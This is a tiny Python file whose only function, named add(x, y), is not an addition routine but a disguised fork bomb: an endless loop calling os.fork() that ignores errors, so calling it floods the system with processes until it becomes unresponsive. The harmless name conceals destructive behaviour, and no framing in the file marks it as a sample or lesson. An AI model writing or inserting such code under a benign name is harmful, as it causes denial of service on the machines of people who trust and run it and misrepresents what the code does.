import os


def add(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
